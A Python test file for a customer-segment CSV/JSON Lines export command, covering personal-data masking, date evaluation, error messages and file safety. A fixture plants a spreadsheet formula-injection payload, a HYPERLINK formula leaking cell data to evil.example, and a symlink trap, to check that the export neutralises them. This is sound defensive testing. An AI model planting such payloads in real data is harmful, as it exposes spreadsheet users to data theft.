"""`c360 segment export` as a user runs it: a saved segment of the shop (tests/api/conftest.py)
written as CSV and JSON Lines, evaluated at --as-of, and the error paths."""

from __future__ import annotations

import csv
import io
import json
import stat
from pathlib import Path

import pytest
from typer.testing import CliRunner

from cli.main import app
from core.settings import Settings
from graph.db import Graph
from graph.segments import parse_definition, saved
from graph.segments.export import COLUMNS

runner = CliRunner()


@pytest.fixture
async def vip_segment(shop: Graph, settings: Settings) -> str:
    """A saved segment: VIP customers (c1 and its Gold tag count, c2) who bought something."""
    definition = parse_definition({"anyTags": ["VIP"], "minPurchaseCount": 1})
    segment = await saved.save(shop, "VIP buyers", definition)
    return str(segment["id"])


def test_csv_export_has_the_model_columns_and_every_member(vip_segment: str) -> None:
    result = runner.invoke(app, ["segment", "export", vip_segment, "--as-of", "2025-03-10"])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [row["id"] for row in rows] == ["c1", "c2"]
    assert list(rows[0]) == list(COLUMNS)
    alice = rows[0]
    assert alice["name"] == "Alice" and alice["email"] == "alice@example.com"
    assert alice["birthDate"] == "1990-04-01"
    assert rows[1]["email"] == ""  # Bob has none: an empty cell, not "None"
    assert f"Exported 2 customers of segment {vip_segment}" in result.stderr


def test_masked_export_hides_personal_data(vip_segment: str) -> None:
    args = ["segment", "export", vip_segment, "--as-of", "2025-03-10", "--masked"]
    for export_format in ["csv", "jsonl"]:
        result = runner.invoke(app, [*args, "--format", export_format])
        assert result.exit_code == 0, result.output
        assert "alice@example.com" not in result.stdout and "1990-04-01" not in result.stdout
        if export_format == "csv":
            alice = next(csv.DictReader(io.StringIO(result.stdout)))
            assert (alice["email"], alice["phone"], alice["birthDate"]) == (
                "a***@example.com",
                "'+86*******5678",  # a leading + would be a formula to a spreadsheet
                "",
            )
        else:
            alice = json.loads(result.stdout.splitlines()[0])
            assert (alice["email"], alice["birthDate"]) == ("a***@example.com", None)
        assert alice["name"] == "Alice"


def test_jsonl_export_to_a_file_evaluated_at_as_of(vip_segment: str, tmp_path: Path) -> None:
    target = tmp_path / "vip.jsonl"
    # On 2025-01-10 only c1 had bought (c2's first purchase is on 01-15).
    args = ["segment", "export", vip_segment, "--format", "jsonl", "--as-of",
            "2025-01-10T00:00:00Z", "-o", str(target)]  # fmt: skip
    result = runner.invoke(app, args)
    assert result.exit_code == 0, result.output
    assert result.stdout == ""
    lines = [json.loads(line) for line in target.read_text(encoding="utf-8").splitlines()]
    assert [line["id"] for line in lines] == ["c1"]
    assert set(lines[0]) == set(COLUMNS)
    assert lines[0]["city"] == "Shanghai" and lines[0]["gender"] == "F"
    assert list(tmp_path.iterdir()) == [target]  # no partial file left behind


def test_unknown_segment_fails_in_one_line_and_leaves_no_file(
    shop: Graph, settings: Settings, tmp_path: Path
) -> None:
    target = tmp_path / "out.csv"
    result = runner.invoke(app, ["segment", "export", "seg-nope", "-o", str(target)])
    assert result.exit_code == 1
    assert "Traceback" not in result.output
    assert "segment not found: 'seg-nope'" in result.stderr
    assert list(tmp_path.iterdir()) == []


def test_bad_as_of_and_format_are_named(vip_segment: str) -> None:
    result = runner.invoke(app, ["segment", "export", vip_segment, "--as-of", "yesterday"])
    assert result.exit_code == 1
    assert "--as-of: 'yesterday' is not an ISO 8601 time" in result.stderr
    result = runner.invoke(app, ["segment", "export", vip_segment, "--format", "xml"])
    assert result.exit_code == 2
    assert "xml" in result.stderr and "Traceback" not in result.output


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"open")'


@pytest.fixture
async def hostile_bob(vip_segment: str, graph: Graph) -> str:
    """The VIP segment, with member c2's name and city text a spreadsheet would run."""
    await graph.run_text(
        "t", "MATCH (c:Customer {id: 'c2'}) SET c.name = $name, c.city = '@SUM(1)'",
        name=HOSTILE, write=True,
    )  # fmt: skip
    return vip_segment


def test_csv_cells_never_run_as_formulas(hostile_bob: str) -> None:
    """Names come from imports (anyone's text): a cell starting with = + - @ gets a leading
    quote in CSV, the value stays as it is in JSON Lines."""
    hostile = HOSTILE
    vip_segment = hostile_bob
    args = ["segment", "export", vip_segment, "--as-of", "2025-03-10"]
    result = runner.invoke(app, args)
    assert result.exit_code == 0, result.output
    bob = list(csv.DictReader(io.StringIO(result.stdout)))[1]
    assert (bob["name"], bob["city"]) == ("'" + hostile, "'@SUM(1)")
    assert bob["region"] == "North"  # ordinary text untouched
    result = runner.invoke(app, [*args, "--format", "jsonl"])
    bob = json.loads(result.stdout.splitlines()[1])
    assert (bob["name"], bob["city"]) == (hostile, "@SUM(1)")


def test_export_files_are_owner_only_and_never_written_through_a_link(
    vip_segment: str, tmp_path: Path
) -> None:
    target = tmp_path / "vip.csv"
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    (tmp_path / ".vip.csv.partial").symlink_to(victim)  # planted where the export writes
    result = runner.invoke(app, ["segment", "export", vip_segment, "-o", str(target)])
    assert result.exit_code == 0, result.output
    assert victim.read_text() == "keep me"
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert target.read_text(encoding="utf-8").startswith(",".join(COLUMNS))
    assert sorted(p.name for p in tmp_path.iterdir()) == ["victim.txt", "vip.csv"]
